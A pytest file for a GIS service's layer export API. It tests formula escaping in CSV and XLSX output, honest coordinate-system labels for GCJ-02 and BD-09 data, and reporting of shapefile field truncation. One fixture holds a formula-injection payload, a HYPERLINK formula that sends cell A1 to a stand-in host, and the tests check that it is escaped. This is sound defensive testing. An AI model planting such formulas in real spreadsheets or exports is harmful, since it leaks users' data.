"""``GET /api/layers/{layer}/export``: no live formulas, honest coordinate systems, cuts told."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pyogrio
import pytest
from fastapi.testclient import TestClient
from pyproj import CRS

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


def _create(client: TestClient, auth: dict[str, str], layer: str, **properties: Any) -> int:
    body = {"geometry": {"type": "Point", "coordinates": [116.3912, 39.9073]},
            "properties": properties}  # fmt: skip
    response = client.post(f"/api/layers/{layer}/features", headers=auth, json=body)
    assert response.status_code == 201, response.text
    return int(response.json()["id"])


def _export(client: TestClient, auth: dict[str, str], layer: str, query: str) -> bytes:
    response = client.get(f"/api/layers/{layer}/export?{query}", headers=auth)
    assert response.status_code == 200, response.text
    return response.content


@pytest.fixture(scope="module")
def formula_unit(client: TestClient, admin: dict[str, str]) -> int:
    """A unit whose name an officer typed as a spreadsheet formula."""
    return _create(client, admin, "units", name=FORMULA, category="bank", contact_phone="-1")


def test_a_formula_name_is_escaped_text_in_csv(
    client: TestClient, admin: dict[str, str], formula_unit: int
) -> None:
    data = _export(client, admin, "units", "format=csv").decode("utf-8-sig")
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(data))}
    assert rows[formula_unit]["name"] == "'" + FORMULA
    assert rows[formula_unit]["contact_phone"] == "-1"  # a number, not a formula
    assert not [r for r in rows.values() if r["name"].startswith(("=", "+", "-", "@"))]


def test_a_formula_name_is_a_text_cell_in_xlsx(
    client: TestClient, admin: dict[str, str], formula_unit: int, tmp_path: Path
) -> None:
    path = tmp_path / "units.xlsx"
    path.write_bytes(_export(client, admin, "units", "format=xlsx"))
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == formula_unit)
    name = row[header.index("name")]
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA, "s", True)
    assert row[0].data_type == "n"


@pytest.mark.parametrize(("crs", "label"), [("gcj02", "GCJ-02"), ("bd09", "BD-09")])
def test_shifted_coordinates_are_never_labelled_wgs84(
    client: TestClient, admin: dict[str, str], tmp_path: Path, crs: str, label: str
) -> None:
    document = json.loads(_export(client, admin, "rail_stations", f"format=geojson&crs={crs}"))
    assert label in document["crs"]["properties"]["name"]
    assert "CRS84" not in json.dumps(document["crs"])
    for fmt, suffix in (("gpkg", ".gpkg"), ("shp", ".zip"), ("geojson", ".geojson")):
        path = tmp_path / f"stations_{crs}{suffix}"
        path.write_bytes(_export(client, admin, "rail_stations", f"format={fmt}&crs={crs}"))
        declared = CRS.from_user_input(pyogrio.read_info(path)["crs"])
        assert declared.to_epsg() is None and label in declared.name, (fmt, declared)
        assert not declared.equals(CRS.from_epsg(4326), ignore_axis_order=True), fmt
    kml = client.get(f"/api/layers/rail_stations/export?format=kml&crs={crs}", headers=admin)
    assert kml.status_code == 422 and "WGS84 by definition" in kml.json()["detail"]


def test_a_shapefile_cut_is_reported_in_headers_and_kept_in_the_zip(
    client: TestClient, admin: dict[str, str]
) -> None:
    lines = [f"测试{n}路" for n in range(100, 160)]  # 60 lines, 599 bytes joined
    stop = _create(client, admin, "bus_stations", name="长线站", lines=lines)
    response = client.get("/api/layers/bus_stations/export?format=shp", headers=admin)
    assert response.status_code == 200, response.text
    assert int(response.headers["X-Export-Cut"]) >= 1
    assert "longer than 254 bytes (field lines) are cut" in response.headers["X-Export-Notes"]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        kept = archive.read("bus_stations.long_text.csv").decode()
    assert ",".join(lines) in kept
    geojson = client.get("/api/layers/bus_stations/export?format=geojson", headers=admin)
    assert geojson.headers["X-Export-Cut"] == "0" and "X-Export-Notes" not in geojson.headers
    ids = [f["properties"]["id"] for f in geojson.json()["features"]]
    assert stop in ids and int(geojson.headers["X-Export-Count"]) == len(ids)
